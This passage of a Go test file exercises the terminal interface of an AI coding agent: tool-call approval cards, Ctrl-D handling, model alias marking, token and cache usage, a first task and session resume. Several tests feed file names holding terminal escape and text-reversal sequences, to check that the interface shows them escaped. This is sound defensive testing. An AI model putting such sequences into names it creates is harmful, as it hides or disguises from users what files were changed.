	for _, w := range []string{"compacted into a summary of 2 lines", "(attached c.go)"} {
		if !strings.Contains(frame, w) {
			t.Errorf("the replayed frame lacks %q:\n%s", w, frame)
		}
	}
	if strings.Contains(frame, "package a") || strings.Contains(frame, "We fixed A") {
		t.Errorf("the replay shows an attachment's or the summary's text:\n%s", frame)
	}
}

// TestCtrlDWhileAnApprovalWaits: Ctrl-D on an approval card denies it and
// quits, as it quits everywhere else.
func TestCtrlDWhileAnApprovalWaits(t *testing.T) {
	d := newDriver(t, 80, 24, false)
	got := make(chan Decision, 1)
	go func() {
		dec, _ := d.u.Approve(context.Background(), ApprovalRequest{Tool: "bash", Command: "curl example.com", Network: true})
		got <- dec
	}()
	d.waitApproval()
	d.m.Update(keyOf("ctrl+d"))
	if dec := <-got; dec != Deny {
		t.Errorf("Ctrl-D answered %v", dec)
	}
	if !d.m.quitting {
		t.Error("Ctrl-D on an approval card did not quit")
	}
}

// TestApprovalAnswerBeforeItsCall: the answer to a call's question is
// drawn before that call's card (which then shows what the call did), not
// after it.
func TestApprovalAnswerBeforeItsCall(t *testing.T) {
	d := newDriver(t, 100, 30, false)
	d.send("slow")
	d.waitCall()
	go d.u.Approve(context.Background(), ApprovalRequest{CallID: "call_s", Tool: "bash", Command: "sleep 600", Network: true})
	d.waitApproval()
	if f := d.frame(); !strings.Contains(f, "⎿ waiting for your answer…") || strings.Contains(f, "running…") {
		t.Errorf("the call whose question waits does not say so:\n%s", f)
	}
	d.press("y")
	f := d.frame()
	if !strings.Contains(f, "running…") {
		t.Errorf("the answered call is not running again:\n%s", f)
	}
	answer, card := strings.Index(f, "→ yes"), strings.Index(f, "bash · $ sleep 600")
	if answer < 0 || card < 0 || answer > card {
		t.Errorf("the answer is not drawn before its call's card:\n%s", f)
	}
	d.press("esc")
	d.wait()
}

// TestNamesShownAsTheyAre: a file name in a change, an approval card and a
// call's summary is shown with every byte of it, escaped where it cannot be
// shown: a model-made "new\x1b[2J.txt" is shown as new\x1b[2J.txt, never
// as new.txt (a name that is not the file's) and never obeyed.
func TestNamesShownAsTheyAre(t *testing.T) {
	const name, shown = "new\x1b[2J\u202e.txt", `new\x1b[2J\u202e.txt`
	d := newDriver(t, 100, 40, false)
	d.u.Observe(agent.Event{Type: agent.EventTurnStarted, Turn: 1})
	call := &model.ToolCall{ID: "c1", Name: "write_file"}
	ops := []tool.Call{{ID: "c1", Op: tool.OpWrite, Args: &tool.CreateArgs{Path: name, Content: "x\n"}}}
	d.u.Observe(agent.Event{Type: agent.EventCallStarted, Turn: 1, Call: call, Ops: ops})
	d.u.Observe(agent.Event{Type: agent.EventCallCompleted, Turn: 1, Call: call, Ops: ops,
		Results: []tool.Result{{Changes: []tool.FileChange{{Path: name, Kind: tool.ChangeAdd, After: "1", AfterData: []byte("x\n")}}}},
		Result:  &model.ToolResult{Text: "written"}})
	d.settle()
	frame := d.frame()
	if strings.Contains(frame, "new.txt") || !strings.Contains(frame, "write "+shown) {
		t.Errorf("the call does not show the name as %s:\n%s", shown, frame)
	}
	go d.u.Approve(context.Background(), ApprovalRequest{Tool: "bash", Command: "cat x", Paths: []string{"/srv/" + name}})
	d.waitApproval()
	frame = d.frame()
	if !strings.Contains(frame, "/srv/"+shown) {
		t.Errorf("the approval card does not show the path as /srv/%s:\n%s", shown, frame)
	}
	for _, bad := range []string{"\x1b[2J", "\u202e"} {
		if strings.Contains(frame, bad) {
			t.Errorf("the frame holds %q", bad)
		}
	}
	d.press("n")
}

func TestDiffOfShowsNames(t *testing.T) {
	for _, tc := range []struct {
		c    tool.FileChange
		want string
	}{
		{tool.FileChange{Path: "a.go", Kind: tool.ChangeUpdate}, "a.go"},
		{tool.FileChange{Path: "new\x1b[2J.txt", Kind: tool.ChangeAdd}, `new\x1b[2J.txt`},
		{tool.FileChange{Path: "a\rb", MovedTo: "c\u202ed", Kind: tool.ChangeUpdate}, `a\rb → c\u202ed`},
	} {
		if got := diffOf(tc.c).path; got != tc.want {
			t.Errorf("diffOf(%q).path = %q, want %q", tc.c.Path, got, tc.want)
		}
	}
}

func TestStartHeaderShowsWorkspace(t *testing.T) {
	h := startHeader(Status{Workspace: "/srv/a\x1b[2Jb "})
	if !strings.Contains(h, `/srv/a\x1b[2Jb\x20`) || strings.Contains(h, "\x1b") {
		t.Errorf("header %q does not show the workspace as it is", h)
	}
}

// TestModelsTextAlias: the list marks the model the session runs also
// when the session names it by an alias the server lists as a dated
// snapshot, and only when no listed id is the name itself.
func TestModelsTextAlias(t *testing.T) {
	for _, tc := range []struct {
		names   []string
		current string
		want    string // the marked line; "" for none
	}{
		{[]string{"claude-opus-4-5-20251101", "claude-sonnet-4-5-20250929"}, "claude-sonnet-4-5", "●   2  claude-sonnet-4-5-20250929  (current: claude-sonnet-4-5)"},
		{[]string{"claude-sonnet-4-5", "claude-sonnet-4-5-20250929"}, "claude-sonnet-4-5", "●   1  claude-sonnet-4-5  (current)"},
		{[]string{"claude-sonnet-4-5@20250929"}, "claude-sonnet-4-5", "●   1  claude-sonnet-4-5@20250929  (current: claude-sonnet-4-5)"},
		{[]string{"gpt-5-2025-08-07", "gpt-5-mini"}, "gpt-5", "●   1  gpt-5-2025-08-07  (current: gpt-5)"},
		{[]string{"claude-sonnet-4-5-1m"}, "claude-sonnet-4-5", ""},
	} {
		text := modelsText(tc.names, tc.current)
		marked := ""
		for _, l := range strings.Split(text, "\n") {
			if strings.HasPrefix(l, "●") {
				marked = l
			}
		}
		if marked != tc.want {
			t.Errorf("%v, %s: marked %q, want %q", tc.names, tc.current, marked, tc.want)
		}
	}
}

// TestUsageCountsTheCache: /cost's input, the status line's and a task's
// tokens are every token the provider counted, the cache's included: a
// Messages API session whose prompt the cache read or took has 0 uncached
// input tokens.
func TestUsageCountsTheCache(t *testing.T) {
	u := model.Usage{CacheReadTokens: 1430, CacheWriteTokens: 894, OutputTokens: 33}
	if got, want := costText(Status{Usage: u}), "Input 2.3k tokens (1.4k read from cache, 894 written to it) · output 33"; !strings.HasPrefix(got, want) {
		t.Errorf("costText = %q, want it to start %q", got, want)
	}
	o := &agent.Outcome{Status: agent.StatusCompleted, Turns: 3, Calls: 2, Usage: u, RunUsage: u}
	if got, want := outcomeText(o), "✓ completed · 3 turns · 2 tool calls · 2.4k tokens"; got != want {
		t.Errorf("outcomeText = %q, want %q", got, want)
	}
}

// TestStatusFollowsEachResponse: the status line (and so /cost) reads the
// session's usage again as each model response ends, while its tools run,
// not only when the turn or task ends.
func TestStatusFollowsEachResponse(t *testing.T) {
	f := newFake(nil)
	m := newModel(context.Background(), f, newQueue(), false)
	f.mu.Lock()
	f.status.Usage = model.Usage{CacheWriteTokens: 894, OutputTokens: 15}
	f.mu.Unlock()
	m.apply([]item{{ev: &event{typ: agent.EventResponse}}})
	if m.status.Usage.Total() != 909 {
		t.Errorf("status usage after a response: %+v", m.status.Usage)
	}
}

// TestFirstTask: Options.Task (truss "task") is entered as the first
// input once the session is drawn: sent as a task and kept in the
// history, as if typed.
func TestFirstTask(t *testing.T) {
	d := newDriver(t, 80, 20, false)
	d.m.first = "fix the failing test"
	d.run(d.m.Init())
	for {
		if _, ok := d.wait().(firstTaskMsg); ok {
			break
		}
	}
	d.wait() // the task's end
	if got := d.f.tasks[0]; got != "fix the failing test" {
		t.Errorf("first task %q", got)
	}
	if h := d.m.hist.entries; len(h) == 0 || h[len(h)-1] != "fix the failing test" {
		t.Errorf("history %q", h)
	}
}

// TestResumeNumberBeforeListing: /resume N before any /resume listing
// picks the Nth of the sessions /resume would list now; a number past
// them is refused, saying how many there are.
func TestResumeNumberBeforeListing(t *testing.T) {
	d := newDriver(t, 100, 30, false)
	d.send("/resume 2")
	d.wait()
	if id := d.f.Status().SessionID; id != "20261202T091500-77aa01" {
		t.Errorf("/resume 2 resumed %q, want the second listed", id)
	}
	d = newDriver(t, 100, 30, false)
	d.send("/resume 3")
	d.wait()
	if f := d.frame(); !strings.Contains(f, "no session 3: /resume lists the 2 sessions to choose from") {
		t.Errorf("/resume 3 of 2:\n%s", f)
	}
}
